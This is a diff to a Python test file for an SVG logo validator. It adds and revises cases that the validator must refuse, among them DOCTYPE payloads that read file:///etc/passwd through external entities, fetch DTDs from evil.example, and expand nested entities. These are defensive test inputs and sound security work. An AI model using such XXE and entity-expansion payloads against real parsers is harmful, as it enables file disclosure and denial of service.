@@ -1,5 +1,4 @@
 import contextlib
-import gzip
 import io
 import time
 
@@ -9,7 +8,8 @@ from hypothesis import strategies as st
 from PIL import Image
 
 from handouts.brand.logo import LONGEST_SIDE, LogoError, read_logo
-from handouts.brand.svg import MAX_COPIES, MAX_COSTLY, MAX_LONGER, MAX_SHAPES, MAX_SVG_BYTES
+from handouts.brand.svg import MAX_COPIES, MAX_COSTLY, MAX_SHAPES, MAX_SVG_BYTES
+from handouts.brand.svg_frame import MAX_LONGER
 from handouts.brand.svg_tree import MAX_DEPTH, MAX_ELEMENTS
 
 HEAD = (
@@ -99,7 +99,8 @@ DOCUMENT_TYPES = [
     '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
     '<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]>',
     '<!DOCTYPE svg SYSTEM "http://evil.example/x.dtd">',
-    '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x" [<!ENTITY a "b">]>',
+    '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x" [<!ENTITY x "<g/>">]>',
+    "<!DOCTYPE svg [" + "".join(f'<!ENTITY n{n} "x">' for n in range(60)) + "]>",
     '<!DOCTYPE svg PUBLIC "-//Evil//DTD//EN" "file:///etc/passwd">',
     '<!DOCTYPE svg [<!ENTITY % p SYSTEM "http://evil.example/">%p;]>',
 ]
@@ -130,19 +131,31 @@ def test_document_types_and_entities_are_refused(kind: str) -> None:
         (BOX.format('fill="URL(x)"'), "outside"),
         (BOX.format('xml:base="http://evil.example/"'), "outside"),
         ("<style>@import 'x.css';</style>", "style sheet"),
-        ("<style>rect{fill:\\75 rl(x)}</style>", "style sheet"),
+        ("<style>rect{fill:\\75 rl(x)}</style>" + BOX.format(""), "outside"),
         ("<style>rect{fill:url(x)}</style>" + BOX.format(""), "outside"),
-        ("<style>g > rect{fill:red}</style>", "style sheet"),
-        ("<style>rect{</style>", "style sheet"),
-        ('<filter id="f"/>', "filter"),
+        ("<style>g >> rect{fill:red}</style>", "style sheet"),
+        ("<style>@media (min-width: 9px){rect{fill:red}}</style>", "media"),
+        ("<style>@supports (fill: red){rect{fill:red}}</style>", "@supports"),
+        ("<style>rect{fill:red;&amp; a{fill:blue}}</style>" + BOX.format(""), "style sheet"),
+        ("<style>rect{width:5px}</style>" + BOX.format(""), "size by CSS"),
+        ("<style>rect{animation:x 2s}</style>" + BOX.format(""), "animation"),
+        ("<style>rect{transform-box:fill-box}</style>" + BOX.format(""), "own box"),
+        ("<style>rect{fill:color-mix(in srgb, red, blue)}</style>" + BOX.format(""), "color-mix"),
+        (BOX.format('style="fill:oklch(0.5 0.1 200)"'), "screens"),
+        (BOX.format('style="fill:#005eb8 icc-color(x,1,0.6,0,0.1)"'), "printing press"),
+        (BOX.format('style="transform:rotate3d(1,1,1,45deg)"'), "rotate3d"),
+        (BOX.format('style="transform:translate(50%)"'), "no plain number"),
+        (BOX.format('style="stroke-width:2em"'), "in em"),
+        (BOX.format('stroke="red" vector-effect="non-scaling-stroke"'), "width is fixed"),
+        (BOX.format('systemLanguage="de"'), "language"),
+        ('<g style="mask-image:url(#m)"/>', "mask"),
+        ('<symbol id="s"/><use href="#s"/>', "<symbol>"),
+        ('<pattern id="p"/>' + BOX.format('fill="url(#p)"'), "<pattern>"),
         (BOX.format('filter="url(#f)"'), "filter"),
         (BOX.format('mask="url(#m)"'), "mask"),
         (BOX.format('stroke-dasharray="0.0001"'), "dashed"),
         ("<animate/>", "animate"),
-        ("<pattern/>", "pattern"),
-        ('<a href="#x"/>', "not there|<a>"),
         ("<svg/>", "<svg>"),
-        ('<use href="#gone"/>', "not there"),
         ('<g id="a"><use href="#a"/></g>', "itself"),
         ('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>', "itself"),
         ('<linearGradient id="a" href="#a"/>', "itself"),
@@ -196,7 +209,9 @@ def test_a_drawing_that_would_take_for_ever_is_refused_at_once(body: str, said: 
         ('<svg xmlns="http://www.w3.org/2000/svg">', "no size"),
         ('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1">', "viewBox"),
         ('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 0 5">', "no size"),
-        ('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 nan inf">', "no size"),
+        ('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 nan inf">', "viewBox"),
+        ('<svg xmlns="http://www.w3.org/2000/svg" width="100%" height="50">', "no size"),
+        ('<svg xmlns="http://www.w3.org/2000/svg" width="-1" height="50">', "no size"),
         (f'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 {MAX_LONGER + 1} 1">', "longer"),
     ],
 )
@@ -207,10 +222,6 @@ def test_a_size_that_makes_no_sense_is_refused(head: str, said: str) -> None:
 @pytest.mark.parametrize("data", [b"<html/>", b"<svg", b"<svg></g>", b"<?xml encoding='x'?><svg/>"])
 def test_other_xml_is_refused(data: bytes) -> None:
     assert refused(data)
-
-
-def test_a_compressed_drawing_is_refused() -> None:
-    assert "not a PNG, JPEG or SVG" in refused(gzip.compress(svg(BOX.format(""))))
 
 
 def test_the_same_drawing_gives_the_same_bytes() -> None:
